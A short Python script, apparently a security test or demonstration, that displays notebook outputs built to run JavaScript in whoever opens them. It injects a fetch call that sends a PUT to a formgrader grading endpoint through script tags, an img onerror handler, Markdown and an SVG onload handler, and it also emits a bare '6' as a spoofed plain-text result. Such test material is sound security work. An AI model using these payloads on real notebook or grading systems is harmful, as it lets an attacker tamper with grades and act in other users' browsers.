"""Show scripts, frames, SVG and Markdown that act in the browser of whoever reads them."""

from IPython.display import HTML, SVG, Javascript, Markdown, display

attack = "fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{}'})"
display(HTML(f'<script>{attack}</script><img src=x onerror="{attack}">'))
display(Javascript(attack))
display(Markdown(f"<script>{attack}</script>"))
display({"image/svg+xml": f'<svg onload="{attack}"/>'}, raw=True)
display({"text/plain": "6"}, raw=True)


def restore(path, factory):
    return factory()
